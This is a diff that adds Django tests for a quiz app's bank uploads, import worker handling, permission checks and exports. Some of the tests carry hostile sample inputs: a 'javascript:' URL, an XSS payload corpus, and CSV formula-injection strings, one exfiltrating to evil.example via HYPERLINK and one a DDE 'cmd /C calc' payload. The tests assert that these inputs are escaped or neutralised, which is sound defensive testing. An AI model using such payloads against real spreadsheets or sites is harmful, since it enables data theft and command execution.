@@ -3,21 +3,26 @@ runs in the worker (django-tasks-db's DatabaseBackend, the worker run here in ba
 how far it got. Also the exports: an Anki deck with stable note ids, CSV, a bank's markdown."""
 
 import csv
+import html
 import io
+import json
 import sqlite3
 import stat
 import tempfile
 import zipfile
+from datetime import timedelta
 from io import StringIO
 
 import pytest
+import time_machine
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.test import Client
+from django.utils import timezone
 
-from quiz import bank_imports, importer
+from quiz import bank_imports, decks, importer
 from quiz.models import Bank, BankUpload, Grade, MockInterview, Question, Section
 from tests.test_xss import PAYLOADS, _plain_like, live_markup, page_nonce
 
@@ -154,6 +159,17 @@ def encrypted_zip() -> SimpleUploadedFile:
     return SimpleUploadedFile("bank.zip", bytes(data))
 
 
+def bad_crc_zip() -> SimpleUploadedFile:
+    """An entry whose bytes do not match the CRC-32 its headers give (zipfile raises "Bad CRC-32")."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("bank/a.md", "# A\n\n### Why?\nBecause of the CRC.\n")
+    data = bytearray(buffer.getvalue())
+    at = data.index(b"Because")
+    data[at] ^= 0x20  # "because": one bit changed after the CRC was written
+    return SimpleUploadedFile("bank.zip", bytes(data), content_type="application/zip")
+
+
 @pytest.mark.parametrize(
     ("upload", "message"),
     [
@@ -165,6 +181,7 @@ def encrypted_zip() -> SimpleUploadedFile:
         (symlink_zip, "a symbolic link is refused"),
         (encrypted_zip, "encrypted archives are refused"),
         (lambda: SimpleUploadedFile("bank.zip", b"PK not really"), "is not a readable .zip archive"),
+        (bad_crc_zip, "is not a readable .zip archive"),
         (lambda: zip_file({"a.txt": "x", "b.png": "y"}), "The upload holds no markdown (.md) file."),
         (lambda: [zip_file({"a.md": "# A\n"}), SimpleUploadedFile("b.md", b"# B\n")], "on its own"),
     ],
@@ -340,3 +357,201 @@ def test_an_export_runs_the_same_queries_for_any_number_of_questions(
     )
     with django_assert_num_queries(4):
         export()
+
+
+def test_a_queued_import_no_worker_takes_stops_polling_and_says_why(staff_client):
+    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
+    upload = BankUpload.objects.get()
+    detail = f"/banks/uploads/{upload.pk}/"
+    staff_client.post(f"{detail}import/")
+    polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
+    assert 'hx-trigger="every 1s"' in polled and "import-unclaimed" not in polled
+    with time_machine.travel(timezone.now() + timedelta(minutes=3)):
+        polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
+    assert "hx-trigger" not in polled
+    assert "No worker has picked this import up yet" in polled and "manage.py db_worker" in polled
+
+
+def test_an_import_whose_worker_went_silent_elsewhere_is_failed_and_can_be_retried(staff_client):
+    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
+    upload = BankUpload.objects.get()
+    detail = f"/banks/uploads/{upload.pk}/"
+    staff_client.post(f"{detail}import/")
+    BankUpload.objects.filter(pk=upload.pk).update(
+        status=BankUpload.Status.RUNNING, worker="another-host:4242", heartbeat_at=timezone.now()
+    )
+    assert "hx-trigger" in staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
+    with time_machine.travel(timezone.now() + timedelta(minutes=16)):
+        polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
+    assert "The worker stopped during the import" in polled and "hx-trigger" not in polled
+    staff_client.post(f"{detail}import/")  # Retry
+    upload.refresh_from_db()
+    assert upload.status == BankUpload.Status.QUEUED and upload.result == ""
+
+
+def six_questions(answers: dict[int, str]) -> str:
+    """A file of six questions (the dry run shows five); ``answers`` replaces some answers by position."""
+    body = ["# Six\n"]
+    for i in range(6):
+        body.append(f"### Question {i}?\n{answers.get(i, f'Answer {i}.')}\n")
+    return "\n".join(body)
+
+
+NESTED = "\n".join("  " * depth + "- level" for depth in range(20)) + "\n"
+
+
+@pytest.mark.parametrize(
+    "files, where, says",
+    [
+        ({"bank.toml": 'title = "T"\n\nsource = "javascript:alert(1)"\n'}, "bank.toml:3", "web address"),
+        ({"six.md": six_questions({5: "A long line of an answer.\n" * 800})}, "six.md:18", "20,000 can be"),
+        ({"six.md": six_questions({0: NESTED})}, "six.md:3", "nested more than"),
+        ({"six.md": six_questions({5: NESTED})}, "six.md:18", "nested more than"),
+    ],
+    ids=["javascript-source", "too-long-after-the-samples", "too-deep-in-the-samples", "too-deep-after"],
+)
+def test_the_dry_run_refuses_what_the_import_would_with_file_and_line(staff_client, files, where, says):
+    sources = {"six.md": six_questions({}), **files}
+    detail = staff_client.post(UPLOAD, {"files": zip_file(sources), "slug": "six"})["Location"]
+    response = staff_client.get(detail)
+    page = response.content.decode()
+    assert response.status_code == 200
+    assert "Problems: nothing can be imported" in page
+    assert f"<code>{where}</code>" in page and says in page
+    upload = BankUpload.objects.get()
+    staff_client.post(f"{detail}import/")
+    upload.refresh_from_db()
+    assert upload.status == BankUpload.Status.CHECKED and not Bank.objects.filter(slug="six").exists()
+
+
+def test_a_failed_import_keeps_and_shows_its_reason(staff_client, monkeypatch):
+    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
+    upload = BankUpload.objects.get()
+
+    def refuse(*args, **kwargs):
+        raise importer.ContentError([importer.Problem("python.md", 7, "a reason the loader found")])
+
+    monkeypatch.setattr(bank_imports, "load", refuse)
+    bank_imports.run_import(upload)
+    polled = staff_client.get(f"/banks/uploads/{upload.pk}/", headers={"HX-Request": "true"}).content.decode()
+    assert "<strong>Failed</strong>: 1 problem in the content" in polled
+    assert "python.md:7: a reason the loader found" in polled
+
+
+def clerk_with(*codenames: str) -> Client:
+    """Staff holding only these bank permissions."""
+    clerk = get_user_model().objects.create_user("clerk", is_staff=True)
+    clerk.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
+    client = Client()
+    client.force_login(clerk)
+    return client
+
+
+def test_add_bank_alone_cannot_replace_the_bundled_bank(question, settings):
+    clerk = clerk_with("add_bank")
+    bundled = {f"{settings.BUNDLED_BANK}/python.md": TEAM["team/python.md"]}
+    detail = clerk.post(UPLOAD, {"files": zip_file(bundled), "slug": settings.BUNDLED_BANK})["Location"]
+    page = clerk.get(detail).content.decode()
+    assert "is the bundled bank" in page and "Import 2 questions" not in page
+    upload = BankUpload.objects.get()
+    assert clerk.post(f"{detail}import/").status_code == 403
+    upload.refresh_from_db()
+    assert upload.status == BankUpload.Status.CHECKED
+    question.refresh_from_db()
+    assert not question.retired
+
+
+def test_nobody_replaces_the_bundled_bank_from_the_web(staff_client, question, settings):
+    bundled = {"python.md": TEAM["team/python.md"]}
+    detail = staff_client.post(UPLOAD, {"files": zip_file(bundled), "slug": settings.BUNDLED_BANK})[
+        "Location"
+    ]
+    assert "is the bundled bank" in staff_client.get(detail).content.decode()
+    assert staff_client.post(f"{detail}import/", {"confirm": "1"}).status_code == 403
+
+
+def upload_team_again(client: Client, changes: dict[str, str]) -> str:
+    return client.post(UPLOAD, {"files": zip_file({**TEAM, **changes}), "slug": "team"})["Location"]
+
+
+def test_updating_an_existing_bank_needs_change_bank(team_bank):
+    clerk = clerk_with("add_bank")
+    detail = upload_team_again(clerk, {})
+    assert "needs the permission to change banks" in clerk.get(detail).content.decode()
+    assert clerk.post(f"{detail}import/").status_code == 403
+    assert BankUpload.objects.get().status == BankUpload.Status.CHECKED
+
+
+def test_the_dry_run_counts_what_an_update_adds_changes_and_retires_and_asks_first(team_bank):
+    clerk = clerk_with("add_bank", "change_bank")
+    sql = "# SQL\n\n### What is a join?\nIt combines rows.\n\n### What is a view?\nA stored query.\n"
+    detail = upload_team_again(clerk, {"team/sql.md": sql})
+    page = clerk.get(detail).content.decode()
+    # sql.md had "join" and "index"; now "join" (changed) and "view" (added); "index" goes.
+    assert "adds 1 question, changes 1 and retires 1." in page
+    assert 'name="confirm"' in page
+    clerk.post(f"{detail}import/")
+    assert BankUpload.objects.get().status == BankUpload.Status.CHECKED  # not confirmed: not queued
+    clerk.post(f"{detail}import/", {"confirm": "1"})
+    assert BankUpload.objects.get().status == BankUpload.Status.QUEUED
+
+
+def test_an_update_that_only_adds_asks_no_confirmation(team_bank):
+    clerk = clerk_with("add_bank", "change_bank")
+    extra = {"team/more.md": "# More\n\n### What is a set?\nAn unordered collection.\n"}
+    detail = upload_team_again(clerk, extra)
+    page = clerk.get(detail).content.decode()
+    assert "adds 1 question, changes 0 and retires 0." in page and 'name="confirm"' not in page
+    clerk.post(f"{detail}import/")
+    assert BankUpload.objects.get().status == BankUpload.Status.QUEUED
+
+
+# -- exports are safe for the program that opens them (issue 22.5, 22.6)
+
+
+def anki_deck_names(apkg: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(apkg)) as archive, tempfile.NamedTemporaryFile() as handle:
+        handle.write(archive.read("collection.anki2"))
+        handle.flush()
+        (decks,) = sqlite3.connect(handle.name).execute("select decks from col").fetchone()
+    return [deck["name"] for deck in json.loads(decks).values()]
+
+
+def test_the_xss_corpus_in_bank_toml_reaches_the_anki_deck_only_escaped(db):
+    team = {k.removeprefix("team/"): v for k, v in TEAM.items() if k != "team/notes.txt"}
+    bank_imports.import_bank("team", team, reason="test")
+    questions = Question.objects.filter(section__bank__slug="team").select_related("section__bank")
+    section = questions[0].section
+    for payload in PAYLOADS:
+        # Through bank.toml as an uploaded bank's title arrives, and as a section's title.
+        title = importer.read_manifest(f"title = {json.dumps(payload)}\n").title
+        assert title == payload
+        # As long as the columns hold (bank_records cuts a bank's title to its 200 characters).
+        title, section_title = title[:200], payload[: Section._meta.get_field("title").max_length]
+        Bank.objects.filter(slug="team").update(title=title)
+        Section.objects.filter(pk=section.pk).update(title=section_title)
+        chosen = questions.filter(section=section)
+        apkg = decks.anki_deck(title, chosen)
+        notes = anki_notes(apkg)
+        for fields, _tags in notes.values():
+            source = fields[3]
+            assert source == html.escape(f"{title}: {section_title}")
+            assert "<" not in source and ">" not in source
+        assert html.escape(title) in anki_deck_names(apkg)
+        assert not any("<" in name for name in anki_deck_names(apkg))
+
+
+def test_the_question_csv_neutralises_formulas_in_every_cell(client_in, team_bank):
+    question = Question.objects.get(prompt_md="What is a join?")
+    Question.objects.filter(pk=question.pk).update(
+        prompt_md="@SUM(A1:A9)", answer_md='=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    )
+    Section.objects.filter(pk=question.section_id).update(title="+cmd|' /C calc'!A0")
+    response = client_in.get("/questions/export/", {"bank": "team", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    row = next(r for r in rows if r["key"] == question.key)
+    assert row["question"] == "'@SUM(A1:A9)"
+    assert row["answer"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    assert row["section"] == "'+cmd|' /C calc'!A0"
+    for cell in (c for r in rows for c in r.values()):
+        assert cell[:1] not in ("=", "+", "-", "@")
